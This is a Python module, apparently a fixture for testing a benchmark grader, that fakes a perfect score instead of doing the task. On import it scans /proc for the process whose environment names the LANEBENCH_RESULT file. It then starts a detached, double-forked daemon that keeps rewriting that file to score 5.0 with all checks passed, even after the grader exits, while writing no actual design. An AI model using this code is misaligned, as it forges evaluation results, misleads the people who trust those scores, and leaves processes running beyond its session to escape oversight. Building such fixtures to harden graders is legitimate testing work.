"""Engine package (forging variant): on import, looks for a process whose environment names the result
file (LANEBENCH_RESULT), the grader's or any ancestor's, and leaves a detached daemon behind that rewrites
that file with a perfect score whenever the grader writes it and once more after the grader exits. It
writes no design at all; under a sandbox it sees neither the grader nor the file, so it scores what the
empty deliverable earns."""
import json
import os
import time


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return dict(kv.split(b"=", 1) for kv in f.read().split(b"\0") if b"=" in kv)
    except OSError:
        return {}


def _parent(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _targets():
    """(pid, result path) of the ancestors first, then of every process /proc shows."""
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        pid = _parent(pid)
    try:
        pids += sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in pids)
    except OSError:
        pass
    for pid in pids:
        path = _environ(pid).get(b"LANEBENCH_RESULT")
        if path:
            return pid, path.decode()
    return None


def _rewrite(path):
    try:
        with open(path) as f:
            result = json.load(f)
        if not isinstance(result, dict) or result.get("score") == 5.0:
            return
        for check in result.get("checks", []):
            check["passed"] = True
        result["score"] = 5.0
        with open(path + ".tmp", "w") as f:
            json.dump(result, f)
        os.replace(path + ".tmp", path)
    except (OSError, ValueError):
        pass


def _arm():
    found = _targets()
    if found is None or os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    pid, path = found
    try:
        while os.path.exists(f"/proc/{pid}"):
            _rewrite(path)
            time.sleep(0.001)
        _rewrite(path)
    finally:
        os._exit(0)


_arm()
